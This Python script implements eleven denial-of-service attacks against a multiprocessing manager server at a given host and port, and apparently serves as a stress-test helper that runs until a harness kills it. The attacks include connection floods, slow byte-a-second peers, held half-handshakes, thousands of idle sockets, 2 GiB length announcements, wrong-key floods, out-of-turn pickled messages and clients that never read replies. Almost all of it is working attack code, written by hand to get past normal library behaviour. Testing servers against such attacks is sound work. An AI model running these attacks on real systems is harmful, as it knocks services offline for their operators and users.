"""Peers that mean harm, each a process that attacks a manager until it is killed.

    python3 attackers.py NAME HOST PORT AUTHKEY

Prints `attacking` once it is at full force. Bytes are written by hand: no library would send them.
"""

import errno
import hmac
import os
import pickle
import resource
import selectors
import signal
import socket
import struct
import sys
import time

CROWD = 5000
WRONG_ANSWER = b"\0\0\0\x10" + b"\0" * 16
OUT_OF_TURN = [b"#WELCOME#", b"#CHALLENGE#" + b"\0" * 20, pickle.dumps((None, "dummy", (), {}))]


def message(body):
    return struct.pack("!i", len(body)) + body


def dial(address):
    """A connection; patient where the other side takes none at the moment."""
    while True:
        try:
            return socket.create_connection(address, timeout=60)
        except OSError:
            time.sleep(0.01)  # rhythm: the pause between two attempts


def read_message(sock):
    def exactly(size):
        data = b""
        while len(data) < size:
            more = sock.recv(size - len(data))
            if not more:
                raise EOFError
            data += more
        return data

    return exactly(struct.unpack("!i", exactly(4))[0])


def with_key(address, authkey):
    """A connection after the handshake."""
    sock = dial(address)
    challenge = read_message(sock)[len(b"#CHALLENGE#") :]
    name = "sha256" if challenge.startswith(b"{sha256}") else "md5"
    prefix = b"{sha256}" if name == "sha256" else b""
    sock.sendall(message(prefix + hmac.new(authkey, challenge, name).digest()))
    assert read_message(sock) == b"#WELCOME#"
    sock.sendall(message(b"#CHALLENGE#" + os.urandom(20)))
    read_message(sock)
    sock.sendall(message(b"#WELCOME#"))
    return sock


def call(sock, ident, method, *args):
    sock.sendall(message(pickle.dumps((ident, method, args, {}))))
    return pickle.loads(read_message(sock))[1]


def main_connection(address, authkey):
    """A connection for calls on objects, and the ident of a queue that nobody else uses."""
    ident, _ = call(with_key(address, authkey), None, "create", "get_result_queue")
    sock = with_key(address, authkey)
    call(sock, None, "accept_connection", "MainProcess")
    return sock, ident


def at_force():
    print("attacking", flush=True)


def hold_still():
    while True:
        signal.pause()


def over_and_over(address, first_words):
    """Connects, speaks and is gone, as fast as one core allows."""
    at_force()
    number = 0
    while True:
        sock = dial(address)
        try:
            sock.sendall(first_words[number % len(first_words)])
        except OSError:
            pass
        sock.close()
        number += 1


def hold(address, count, first_words):
    """Opens connections, says the beginning of something on each, and keeps them."""
    held = []
    for _ in range(count):
        sock = dial(address)
        sock.sendall(first_words)
        held.append(sock)
    at_force()
    hold_still()


def garbage(address, authkey):
    over_and_over(address, [b"GET / HTTP/1.1\r\nHost: manager\r\n\r\n", os.urandom(64)])


def two_gib_without_key(address, authkey):
    over_and_over(address, [b"\x7f\xff\xff\xff" + b"x" * 1000])


def two_gib_with_key(address, authkey):
    sock, _ = main_connection(address, authkey)
    sock.sendall(b"\x7f\xff\xff\xff")
    chunk, left = b"x" * (1 << 20), 0x7FFFFFFF - 1
    while left:
        left -= sock.send(chunk[:left])
    at_force()
    hold_still()


def half_a_handshake(address, authkey):
    hold(address, 1000, WRONG_ANSWER[:10])


def crowd(address, authkey):
    hold(address, CROWD, b"")


def byte_a_second(address, authkey):
    socks = [dial(address) for _ in range(200)]
    at_force()
    while socks:
        time.sleep(1)  # rhythm: this attack is slow by nature
        for sock in list(socks):
            try:
                sock.sendall(b"\0")
            except OSError:
                socks.remove(sock)
    hold_still()


def connects_and_goes(address, authkey):
    over_and_over(address, [b""])


def wrong_key(address, authkey):
    """Sends a wrong answer and waits for what is said to it, 64 at a time."""
    selector = selectors.DefaultSelector()

    def begin():
        sock = dial(address)
        sock.sendall(WRONG_ANSWER)
        selector.register(sock, selectors.EVENT_READ)

    for _ in range(64):
        begin()
    at_force()
    while True:
        for key, _ in selector.select():
            try:
                ended = not key.fileobj.recv(4096)
            except OSError as error:
                ended = error.errno != errno.EAGAIN
            if ended:
                selector.unregister(key.fileobj)
                key.fileobj.close()
                begin()


def wrong_key_unheard(address, authkey):
    over_and_over(address, [WRONG_ANSWER])


def out_of_turn(address, authkey):
    over_and_over(address, [message(body) for body in OUT_OF_TURN])


def never_reads(address, authkey):
    """Eight clients that ask for an item of 8 MiB each, and read no reply."""
    socks = []
    for _ in range(8):
        sock, ident = main_connection(address, authkey)
        call(sock, ident, "put", b"x" * (8 << 20))
        sock.sendall(message(pickle.dumps((ident, "get", (), {}))))
        socks.append(sock)
    at_force()
    hold_still()


# What each is called on the command line, what it does, and how.
ATTACKS = {
    "garbage": ("garbage, as fast as it can", garbage),
    "two-gib-without-key": ("2 GiB announced, as fast as it can", two_gib_without_key),
    "two-gib-with-key": ("2 GiB with the key", two_gib_with_key),
    "half-a-handshake": ("1,000 halves of a handshake, held", half_a_handshake),
    "crowd": ("5,000 connections that say nothing, held", crowd),
    "byte-a-second": ("200 peers that send a byte a second", byte_a_second),
    "connects-and-goes": ("connects and goes, as fast as it can", connects_and_goes),
    "wrong-key": ("a wrong key, 64 at a time", wrong_key),
    "wrong-key-unheard": ("a wrong key, not waiting for the answer", wrong_key_unheard),
    "out-of-turn": ("messages out of turn, as fast as it can", out_of_turn),
    "never-reads": ("8 clients that read no replies", never_reads),
}


def main():
    name, host, port, authkey = sys.argv[1:]
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    _, attack = ATTACKS[name]
    attack((host, int(port)), authkey.encode())


if __name__ == "__main__":
    main()
